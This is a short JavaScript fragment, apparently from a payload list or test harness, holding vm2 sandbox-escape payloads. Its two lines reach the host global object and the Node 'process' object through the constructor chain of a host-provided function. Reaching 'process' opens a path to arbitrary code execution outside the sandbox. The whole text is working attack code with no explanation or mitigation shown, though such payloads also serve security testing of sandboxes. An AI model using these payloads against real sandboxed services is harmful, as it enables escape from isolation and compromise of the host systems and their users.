// vm2: host function .constructor (issue #32 class)
pwn(log.constructor('return this')()); pwn(log.constructor.constructor('return process')());
